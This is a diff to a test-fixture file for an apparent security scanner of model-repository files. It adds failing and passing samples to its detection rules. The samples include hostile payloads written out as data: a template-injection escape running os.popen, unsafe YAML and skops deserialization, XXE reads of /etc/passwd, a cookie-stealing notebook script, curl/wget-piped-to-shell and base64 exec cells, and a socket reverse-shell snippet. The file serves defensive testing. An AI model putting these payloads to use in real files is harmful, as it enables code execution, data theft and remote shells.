@@ -18,6 +18,14 @@ def config(**members: object) -> bytes:
     return json.dumps({"model_type": "bert", "architectures": ["BertModel"]} | members).encode()
 
 
+def shown(page: str, kind: str = "text/html") -> bytes:
+    """Return a notebook whose only cell has an output."""
+    output = {"output_type": "display_data", "metadata": {}, "data": {kind: [page]}}
+    cell = {"cell_type": "code", "metadata": {}, "source": ["1"], "outputs": [output]}
+    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}).encode()
+
+
+MLMODEL = b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
 CHAT = "{% for message in messages %}<|{{ message['role'] }}|>{{ message.content | trim }}{% endfor %}"
 ESCAPE = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
 MODULES = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}]
@@ -36,6 +44,10 @@ RULES: dict[str, dict[str, dict[str, bytes]]] = {
             "module.yaml": b"x: !!python/module:antigravity\n",
             "mlflow-loader.yaml": b"flavors:\n  python_function:\n    loader_module: subprocess\n",
             "modules.json": json.dumps([MODULES[0] | {"type": "os.system"}]).encode(),
+            "java.yaml": b"x: !!javax.script.ScriptEngineManager []\n",
+            "ruby.yaml": b"--- !ruby/object:Gem::Installer\ni: x\n",
+            "skops.json": b'{"protocol": 2, "__class__": "add", "__module__": "numpy", "__loader__": "FunctionNode",'
+            b' "content": {"module_path": "os", "function": "system"}}',
             "peft.json": b'{"auto_mapping": {"parent_library": "os.system"}}',
         },
         "pass": {
@@ -61,9 +73,44 @@ RULES: dict[str, dict[str, dict[str, bytes]]] = {
         "fail": {
             "auto-map.json": config(auto_map={"AutoModel": "modeling_custom.CustomModel"}),
             "pipelines.json": config(custom_pipelines={"x": {"impl": "pipeline.P", "pt": ["AutoModel"]}}),
+            "generate.json": b'{"custom_generate": "other/repository"}',
+            "diffusers.json": b'{"_class_name": "StableDiffusionPipeline", "unet": ["my_unet", "Net"]}',
+            "diffusers-pipeline.json": b'{"_class_name": ["pipeline", "Pipe"]}',
+            "mlflow.yaml": b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.loaders.code_model\n"
+            b"    model_code_path: agent.py\n",
             "asked-for.yaml": b"model: m\ntrust_remote_code: true\n",
         },
-        "pass": {"plain.json": config(), "refused.yaml": b"model: m\ntrust_remote_code: false\n"},
+        "pass": {
+            "plain.json": config(),
+            "diffusers.json": b'{"_class_name": "Pipeline", "unet": ["diffusers", "UNet2DConditionModel"]}',
+            "refused.yaml": b"model: m\ntrust_remote_code: false\n",
+        },
+    },
+    "config-outside-path": {
+        "fail": {
+            "up.yaml": MLMODEL + b"    python_model: ../../other.pkl\n",
+            "address.yaml": MLMODEL + b"    model_path: http://example.com/m.pkl\n",
+            "absolute.yaml": MLMODEL + b"    data: /etc\n",
+        },
+        "pass": {"inside.yaml": MLMODEL + b"    model_path: data/model.pkl\n    code: code\n"},
+    },
+    "pmml-calls-class": {
+        "fail": {"java.pmml": b"<PMML><Apply function='java.lang.Runtime.exec'/></PMML>"},
+        "pass": {"plain.pmml": b"<PMML><Apply function='log10'/></PMML>"},
+    },
+    "notebook-shows-script": {
+        "fail": {
+            "handler.ipynb": shown("<img src=x onerror='fetch(1)'>"),
+            "script.ipynb": shown("<script>fetch('http://example.com/?c='+document.cookie)</script>"),
+            "frame.ipynb": shown("<iframe src='http://example.com/'></iframe>"),
+            "javascript.ipynb": shown("fetch('http://example.com/')", kind="application/javascript"),
+            "link.ipynb": notebook("[x](javascript:alert(1))", kind="markdown"),
+        },
+        "pass": {
+            "table.ipynb": shown("<table><tr><td onclick>1</td></tr></table>"),
+            "plot.ipynb": shown("<script>require(['plotly'], function(Plotly) { Plotly.newPlot('x') })</script>"),
+            "video.ipynb": shown("<iframe src='https://example.com/embed/1'></iframe>"),
+        },
     },
     "template-reaches-python": {
         "fail": {
@@ -83,6 +130,8 @@ RULES: dict[str, dict[str, dict[str, bytes]]] = {
     "template-hides-names": {
         "fail": {
             "attr.jinja": b"{{ x|attr(y) }}",
+            "include-a-path.jinja": b"{%- include '/etc/passwd' %}{{ x }}",
+            "import.jinja": b"{% import x as y %}{{ y }}",
             "include.jinja": b"{% include 'other.jinja' %}{{ x }}",
         },
         "pass": {"map.jinja": b"{{ tools|map(attribute='name')|join(', ') }}"},
@@ -92,11 +141,15 @@ RULES: dict[str, dict[str, dict[str, bytes]]] = {
             "external.pmml": b'<?xml version="1.0"?>\n<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<PMML>&x;</PMML>',
             "laughs.xml": b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><a>&b;</a>',
             "parameter.xml": b"<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://example.com/x.dtd'> %p;]><a/>",
+            "style.xml": b"<?xml-stylesheet type='text/xsl' href='http://example.com/x.xsl'?><PMML/>",
+            "doctype.xml": b"<!DOCTYPE net SYSTEM 'http://example.com/e.dtd'><net/>",
+            "encoding.xml": b"<?xml version='1.0' encoding='UTF-7'?>\n+ADw-!DOCTYPE x+AD4-<PMML/>",
             "include.xml": b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
         },
         "pass": {
             "model.pmml": b'<?xml version="1.0"?>\n<PMML xmlns="http://www.dmg.org/PMML-4_4"><Header/></PMML>',
             "page.html": b"<!DOCTYPE html>\n<html><body>&lt;!ENTITY x&gt;</body></html>",
+            "figure.svg": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/x.dtd"><svg/>',
             "one-text.xml": b'<!DOCTYPE a [<!ENTITY a "ha">]><a>&a;</a>',
         },
     },
@@ -105,6 +158,7 @@ RULES: dict[str, dict[str, dict[str, bytes]]] = {
             "index.txt": b"numpy==2.4.6\n--index-url http://packages.example/simple\n",
             "git.txt": b"numpy==2.4.6\ngit+https://example.com/tool\n",
             "direct.txt": b"tool @ https://example.com/tool.whl\n",
+            "channel.yaml": b"channels:\n- http://example.com/channel\ndependencies:\n- python=3.11\n",
             "conda.yaml": b"channels: [x]\ndependencies:\n- python=3.11\n- pip:\n  - git+https://example.com/tool\n",
         },
         "pass": {
@@ -119,9 +173,13 @@ RULES: dict[str, dict[str, dict[str, bytes]]] = {
             "piped.ipynb": notebook("!curl -s https://example.com/x | sh"),
             "decoded.ipynb": notebook("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"),
             "aliased.ipynb": notebook("from base64 import b64decode as b\nexec(b('cHJpbnQoMSk='))"),
+            "shell.ipynb": notebook("import socket,os,pty\ns=socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('sh')"),
+            "format-3.ipynb": b'{"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code",'
+            b' "input": ["!curl http://example.com/x|sh"]}]}]}',
             "system.ipynb": notebook("import os as o\no.system('wget -qO- http://example.com/x | bash')"),
         },
         "pass": {
+            "words.ipynb": notebook("import socket, os\ns = socket.socket()\nos.dup(1)"),
             "ordinary.ipynb": notebook("!pip install numpy\nimport os\nos.system('ls')\n%matplotlib inline"),
             "told.ipynb": notebook("never run: curl -s https://example.com/x | sh", kind="markdown"),
         },
@@ -131,7 +189,8 @@ RULES: dict[str, dict[str, dict[str, bytes]]] = {
 FORMATS = (
     Vector("text", "plain", b"hello\n", "a text that nothing acts on"),
     Vector("text", "config", config(auto_map={}), "a configuration with a telling word"),
-    Vector("text", "not-json", b'{"auto_map": ', "broken JSON is text, which no JSON reader opens"),
+    Vector("text", "not-json", b'{"auto_map": ', "broken JSON with a telling word", (), "not JSON"),
+    Vector("text", "template", b"{{ x.type }}", "a template is no broken JSON"),
     Vector("text", "aliases", b"_target_: &a [1]\nb: [*a, *a]\n", "YAML with aliases"),
     Vector("text", "deep", b'{"type": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested deep", (), "too deep"),
     Vector("text", "twice", b'{"auto_map": 1, "auto_map": 2}', "a key twice", (), "stand there twice"),
